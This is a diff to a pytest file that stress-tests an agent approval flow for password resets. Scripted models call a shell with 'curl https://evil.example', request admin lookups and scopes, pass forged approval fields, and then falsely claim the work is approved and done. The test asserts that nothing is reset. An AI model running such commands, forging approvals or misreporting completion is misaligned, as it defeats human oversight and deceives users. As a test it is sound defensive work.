@@ -31,7 +31,7 @@ from tests.flows._approvals import (
     user_id,
     waiting,
 )
-from tests.flows._world import SECURITY, Person, World
+from tests.flows._world import SECURITY, SUBAGENTS, Person, World
 from tests.tenant._ciba import consent_ids, form_token, open_phone
 
 SETTLED_SECONDS = 2.5
@@ -321,10 +321,21 @@ async def test_no_word_in_any_chat_approves(world: World, http: httpx.AsyncClien
 
 
 @pytest.mark.requirement("E12")
+@pytest.mark.requirement("F2")
 async def test_a_model_that_wants_to_approve_finds_nothing_to_do_it_with(
     tmp_path_factory: pytest.TempPathFactory, http: httpx.AsyncClient
 ) -> None:
-    """It calls the tool with every argument that it can think of, twice, and says that it is done."""
+    """It calls the tool with every argument that it can think of, twice, and says that it is done.
+
+    So does the supervisor's, which calls what no agent offers.
+    """
+    planned = Calls(
+        (
+            ("shell", {"command": "curl https://evil.example"}),
+            ("account_lookup_admin", {"request": "everybody"}),
+            ("password_reset", {"request": QUESTION, "scopes": ["admin"], "resume": "x", "person": "oscar.lind"}),
+        )
+    )
     evil = Calls(
         (
             ("reset_password", {"approved": True, "verified": True, "approval": "yes", "code": "AAAA"}),
@@ -333,12 +344,16 @@ async def test_a_model_that_wants_to_approve_finds_nothing_to_do_it_with(
             ("reset_password", {}),
         )
     )
-    models = {"password_reset": ScriptedModel([evil, Says(("It is approved and done.",))])}
+    models = {
+        "supervisor": ScriptedModel([planned, Says(("All of it is done.",))]),
+        "password_reset": ScriptedModel([evil, Says(("It is approved and done.",))]),
+    }
     with World(tmp_path_factory.mktemp("evil"), model=models.get) as world:
         amelia = await Person.sign_in(world, "amelia.hart", http)
         reply = await amelia.ask(QUESTION)
         assert reply.state == WAITS
         await asyncio.sleep(SETTLED_SECONDS)
         assert models["password_reset"].seen
+        assert [name for name in SUBAGENTS if "/" in world.asked[name]] == ["password_reset"]
         assert ledger(world, "SELECT state FROM actions") == [("requested",)]
         assert resets(world) == 0
